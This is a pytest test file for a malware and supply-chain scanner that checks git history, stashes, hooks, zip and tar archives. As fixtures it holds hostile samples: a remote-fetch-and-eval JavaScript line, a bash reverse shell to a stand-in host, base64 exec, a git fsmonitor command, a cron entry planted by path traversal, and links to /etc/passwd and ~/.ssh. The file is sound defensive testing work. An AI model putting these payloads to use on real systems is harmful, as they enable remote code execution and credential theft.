from __future__ import annotations

import io
import os
import subprocess
import tarfile
import time
import zipfile
from pathlib import Path

import pytest
from dulwich.objects import Blob, Commit, ObjectID, Tree
from dulwich.refs import Ref
from dulwich.repo import Repo

from impextech.vet.engine import scan_path
from impextech.vet.items import InputError, Limits, SourceFile
from impextech.vet.sources import iter_directory, iter_tar, iter_zip

EVIL_JS = b'const axios = require("axios");\naxios.get(u).then((res) => { eval(res.data); });\n'


def _commit(repo: Repo, files: dict[str, bytes], parents: list[ObjectID], msg: str) -> ObjectID:
    """Write blobs, trees and a commit straight into the object store (no checkout)."""
    store = repo.object_store
    root: dict[str, object] = {}
    for path, data in files.items():
        node = root
        *dirs, name = path.split("/")
        for d in dirs:
            node = node.setdefault(d, {})  # type: ignore[assignment]
        node[name] = data

    def write(node: dict[str, object]) -> ObjectID:
        tree = Tree()
        for name, value in node.items():
            if isinstance(value, bytes):
                blob = Blob.from_string(value)
                store.add_object(blob)
                tree.add(name.encode(), 0o100644, blob.id)
            else:
                tree.add(name.encode(), 0o040000, write(value))  # type: ignore[arg-type]
        store.add_object(tree)
        return tree.id

    commit = Commit()
    commit.tree = write(root)
    commit.parents = parents
    commit.author = commit.committer = b"Test <t@example.invalid>"
    commit.author_time = commit.commit_time = int(time.time())
    commit.author_timezone = commit.commit_timezone = 0
    commit.message = msg.encode()
    store.add_object(commit)
    return commit.id


def _repo_with_history(path: Path, bare: bool) -> Repo:
    repo = Repo.init_bare(str(path), mkdir=True) if bare else Repo.init(str(path), mkdir=True)
    main = _commit(repo, {"README.md": b"# app\n", "src/app.js": b"console.log(1);\n"}, [], "init")
    repo.refs[Ref(b"refs/heads/master")] = main
    evil = _commit(repo, {"README.md": b"# app\n", "src/app.js": EVIL_JS}, [main], "evil")
    repo.refs[Ref(b"refs/heads/feature/login")] = evil
    index = _commit(repo, {"README.md": b"# app\n"}, [main], "index")
    stash = _commit(
        repo, {"README.md": b"# app\n", "tools/x.sh": b"bash -i >& /dev/tcp/h.invalid/4444 0>&1\n"},
        [main, index], "WIP",
    )  # fmt: skip
    repo.refs[Ref(b"refs/stash")] = stash
    return repo


def test_bare_repository_branches_and_stash_are_inspected(tmp_path: Path) -> None:
    repo = _repo_with_history(tmp_path / "r.git", bare=True)
    repo.close()
    report = scan_path(tmp_path / "r.git")
    got = {(f.rule_id, f.origin, f.path) for f in report.findings}
    assert ("VET202", "refs/heads/feature/login", "src/app.js") in got
    assert ("VET410", "refs/stash", "tools/x.sh") in got
    assert report.origins == ["git (bare)"]
    assert report.verdict.value == "malicious"


def test_working_tree_plus_history_without_duplicates(tmp_path: Path) -> None:
    repo = _repo_with_history(tmp_path / "w", bare=False)
    repo.close()
    (tmp_path / "w" / "src").mkdir()
    (tmp_path / "w" / "src" / "app.js").write_bytes(EVIL_JS)
    (tmp_path / "w" / "README.md").write_bytes(b"# app\n")
    report = scan_path(tmp_path / "w")
    evil = [(f.origin, f.path) for f in report.findings if f.rule_id == "VET202"]
    # The branch holds the same blob as the working tree, so it is reported once.
    assert evil == [("", "src/app.js")]
    assert report.origins == ["working tree", "git history"]


def test_stash_reflog_entries_are_inspected(tmp_path: Path) -> None:
    repo = _repo_with_history(tmp_path / "r.git", bare=True)
    main = repo.refs[Ref(b"refs/heads/master")]
    older = _commit(repo, {"old.py": b"exec(base64.b64decode(blob))\n"}, [main, main], "old WIP")
    newest = repo.refs[Ref(b"refs/stash")]
    log = tmp_path / "r.git" / "logs" / "refs" / "stash"
    log.parent.mkdir(parents=True)
    zero = b"0" * 40
    log.write_bytes(
        zero + b" " + older + b" T <t@example.invalid> 1700000000 +0000\tWIP old\n"
        + older + b" " + newest + b" T <t@example.invalid> 1700000100 +0000\tWIP new\n"
    )  # fmt: skip
    repo.close()
    report = scan_path(tmp_path / "r.git")
    assert ("VET201", "stash@{1}", "old.py") in {
        (f.rule_id, f.origin, f.path) for f in report.findings
    }


def test_repository_config_and_hooks_are_read_never_run(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    marker = tmp_path / "ran"
    repo = _repo_with_history(tmp_path / "w", bare=False)
    repo.close()
    git = tmp_path / "w" / ".git"
    with open(git / "config", "a") as fh:
        fh.write(f"[core]\n\tfsmonitor = touch {marker}\n\thooksPath = .githooks\n")
    (git / "hooks" / "post-checkout").write_text(f"#!/bin/sh\ntouch {marker}\n")
    (git / "hooks" / "post-checkout").chmod(0o755)

    def refuse(*args: object, **kwargs: object) -> None:
        raise AssertionError("vet tried to start a process")

    monkeypatch.setattr(subprocess, "Popen", refuse)
    monkeypatch.setattr(os, "system", refuse)
    monkeypatch.setattr(os, "posix_spawn", refuse)
    monkeypatch.setattr(os, "execv", refuse)
    report = scan_path(tmp_path / "w")
    got = {(f.rule_id, f.path, f.line) for f in report.findings}
    assert ("VET109", ".git/config", 7) in got
    assert ("VET110", ".git/hooks/post-checkout", 2) in got
    assert not marker.exists()


def test_directory_links_and_special_files(tmp_path: Path) -> None:
    root = tmp_path / "repo"
    root.mkdir()
    (root / "a.js").write_text("ok")
    (root / "up").symlink_to("../../etc")
    (root / "inside").symlink_to("a.js")
    os.mkfifo(root / "pipe")
    items = list(iter_directory(root, Limits()))
    files = [(i.path, i.data) for i in items if isinstance(i, SourceFile)]
    breaches = sorted((i.kind, i.path) for i in items if not isinstance(i, SourceFile))
    assert files == [("a.js", b"ok")]
    assert breaches == [("special-file", "pipe"), ("symlink-outside", "up")]


def test_large_files_are_read_only_up_to_the_limit(tmp_path: Path) -> None:
    (tmp_path / "big.bin").write_bytes(b"x" * 5000)
    (item,) = iter_directory(tmp_path, Limits(scan_bytes=1000))
    assert isinstance(item, SourceFile)
    assert (len(item.data), item.size, item.truncated) == (1000, 5000, True)


def test_garbage_archives_are_input_errors(tmp_path: Path) -> None:
    bad_zip = tmp_path / "x.zip"
    bad_zip.write_bytes(b"this is not a zip")
    bad_tar = tmp_path / "x.tgz"
    bad_tar.write_bytes(b"\x1f\x8b this is not gzip either")
    with pytest.raises(InputError, match="cannot read zip archive"):
        list(iter_zip(bad_zip, Limits()))
    with pytest.raises(InputError, match="cannot read tar archive"):
        list(iter_tar(bad_tar, Limits()))


def test_tar_hardlink_outside_and_absolute_names(tmp_path: Path) -> None:
    target = tmp_path / "t.tar"
    with tarfile.open(target, "w") as tf:
        link = tarfile.TarInfo("data/passwd")
        link.type = tarfile.LNKTYPE
        link.linkname = "../../etc/passwd"
        tf.addfile(link)
        info = tarfile.TarInfo("/etc/cron.d/job")
        payload = b"* * * * * root sh\n"
        info.size = len(payload)
        tf.addfile(info, io.BytesIO(payload))
    items = list(iter_tar(target, Limits()))
    kinds = [(getattr(i, "kind", "file"), i.path) for i in items]
    assert kinds == [
        ("symlink-outside", "data/passwd"),
        ("path-traversal", "/etc/cron.d/job"),
        ("file", "etc/cron.d/job"),
    ]


def test_zip_members_are_read_without_extraction(tmp_path: Path) -> None:
    target = tmp_path / "r.zip"
    with zipfile.ZipFile(target, "w") as zf:
        zf.writestr("pkg/package.json", '{"scripts": {"postinstall": "node x.js"}}')
    report = scan_path(target)
    assert [(f.rule_id, f.path, f.line) for f in report.findings] == [
        ("VET101", "pkg/package.json", 1)
    ]
    assert sorted(os.listdir(tmp_path)) == ["r.zip"]


def test_zip_symlink_entries_are_checked_not_followed(tmp_path: Path) -> None:
    target = tmp_path / "l.zip"
    with zipfile.ZipFile(target, "w") as zf:
        out = zipfile.ZipInfo("app/keys")
        out.external_attr = 0o120777 << 16
        zf.writestr(out, "../../../home/user/.ssh")
        ok = zipfile.ZipInfo("app/readme")
        ok.external_attr = 0o120777 << 16
        zf.writestr(ok, "../README.md")
    items = list(iter_zip(target, Limits()))
    assert [(getattr(i, "kind", "file"), i.path) for i in items] == [
        ("symlink-outside", "app/keys")
    ]


def test_tar_expanding_past_the_ratio_stops(tmp_path: Path) -> None:
    target = tmp_path / "bomb.tar.gz"
    with tarfile.open(target, "w:gz") as tf:
        for n in range(3):
            data = b"\0" * 300_000
            info = tarfile.TarInfo(f"z{n}.bin")
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
    items = list(iter_tar(target, Limits(ratio_floor_bytes=400_000, max_ratio=20)))
    assert [(getattr(i, "kind", "file"), i.path) for i in items] == [
        ("file", "z0.bin"),
        ("compression-ratio", "z1.bin"),
    ]
